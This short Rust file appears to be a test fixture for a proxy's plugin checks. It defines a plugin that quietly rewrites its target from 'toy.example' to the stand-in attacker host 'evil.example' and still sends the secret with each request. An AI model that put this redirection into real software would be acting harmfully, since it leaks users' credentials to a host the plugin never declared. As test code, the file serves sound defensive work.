//! Sends requests to a host that `about()` does not list.

use bytes::Bytes;
use http::Request;
use nproxy_domain::outcome::PluginError;
use serde_json::Value;

use super::toy::{self, Ways};

pub(super) struct ForeignHost;

impl Ways for ForeignHost {
    fn request(base: &str, path: &str, body: Option<Value>, secret: &str) -> Result<Request<Bytes>, PluginError> {
        toy::request(&base.replace("toy.example", "evil.example"), path, body, secret)
    }
}
